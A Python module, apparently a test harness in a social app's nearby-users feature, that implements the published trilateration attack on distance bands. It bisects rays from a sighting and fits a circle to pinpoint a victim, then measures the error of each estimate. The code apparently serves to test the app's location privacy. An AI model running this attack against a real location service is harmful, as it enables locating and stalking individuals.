"""The trilateration attack on People Nearby, as published (Polakis et al. 2015, and the
WeChat "60 m from list order" work): an attacker who can query from any point they choose
walks rays away from a first sighting of the victim, bisects each ray to the point where the
victim's distance band flips, and fits a circle through those crossing points: its centre is
the victim. Against bands of *true* distance this finds a person to within a metre or so.

`Oracle.band(point)` is all the attacker learns per query: the victim's band or None.
"""

from __future__ import annotations

import math
import statistics
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from omo.social.nearby.grid import BANDS, metres

Point = tuple[float, float]  # (latitude, longitude)
BandOf = Callable[[Point], Awaitable[str | None]]

M_PER_DEG_LAT = 111_320.0


def offset(origin: Point, east_m: float, north_m: float) -> Point:
    lat = origin[0] + north_m / M_PER_DEG_LAT
    lng = origin[1] + east_m / (M_PER_DEG_LAT * math.cos(math.radians(origin[0])))
    return lat, lng


def local(origin: Point, point: Point) -> tuple[float, float]:
    east = (point[1] - origin[1]) * M_PER_DEG_LAT * math.cos(math.radians(origin[0]))
    north = (point[0] - origin[0]) * M_PER_DEG_LAT
    return east, north


def fit_circle_centre(points: list[tuple[float, float]]) -> tuple[float, float]:
    """Least-squares (Kåsa) circle through points in metres: solve for centre (a, b)."""
    # x² + y² = 2ax + 2by + c, linear in (a, b, c): normal equations by hand (3x3).
    rows = [(2 * x, 2 * y, 1.0, x * x + y * y) for x, y in points]
    ata = [[sum(r[i] * r[j] for r in rows) for j in range(3)] for i in range(3)]
    atb = [sum(r[i] * r[3] for r in rows) for i in range(3)]
    a, b, _ = _solve3(ata, atb)
    return a, b


def _solve3(m: list[list[float]], v: list[float]) -> list[float]:
    m = [[*row, v[i]] for i, row in enumerate(m)]
    for col in range(3):
        pivot = max(range(col, 3), key=lambda r: abs(m[r][col]))
        m[col], m[pivot] = m[pivot], m[col]
        if abs(m[col][col]) < 1e-9:
            return [0.0, 0.0, 0.0]
        for r in range(3):
            if r != col:
                factor = m[r][col] / m[col][col]
                m[r] = [a - factor * b for a, b in zip(m[r], m[col], strict=True)]
    return [m[i][3] / m[i][i] for i in range(3)]


@dataclass
class Attack:
    """Bisect `rays` rays from a first sighting; `steps` bisections per ray."""

    band_of: BandOf
    rays: int = 8
    steps: int = 12
    reach_m: float = 3000.0
    queries: int = 0

    async def _band(self, point: Point) -> str | None:
        self.queries += 1
        return await self.band_of(point)

    async def locate(self, sighting: Point) -> Point | None:
        inner = BANDS[0][1]
        if await self._band(sighting) != inner:
            return None
        crossings: list[tuple[float, float]] = []
        for ray in range(self.rays):
            angle = 2 * math.pi * ray / self.rays
            dx, dy = math.cos(angle), math.sin(angle)
            near, far = 0.0, self.reach_m
            if await self._band(offset(sighting, dx * far, dy * far)) == inner:
                continue
            for _ in range(self.steps):
                middle = (near + far) / 2
                if await self._band(offset(sighting, dx * middle, dy * middle)) == inner:
                    near = middle
                else:
                    far = middle
            crossings.append((dx * (near + far) / 2, dy * (near + far) / 2))
        if len(crossings) < 3:
            return None
        east, north = fit_circle_centre(crossings)
        return offset(sighting, east, north)


async def errors_of(
    victims: list[Point],
    sightings: list[Point],
    band_of_victim: Callable[[Point], Awaitable[BandOf]],
    **attack: int,
) -> list[float]:
    """Locate each victim from its first sighting; the error (metres) of each estimate
    (an attack that cannot even fit a circle counts as the sighting's own error)."""
    found = []
    for victim, sighting in zip(victims, sightings, strict=True):
        estimate = await Attack(await band_of_victim(victim), **attack).locate(sighting)
        found.append(metres(estimate or sighting, victim))
    return found


def median(values: list[float]) -> float:
    return statistics.median(values)
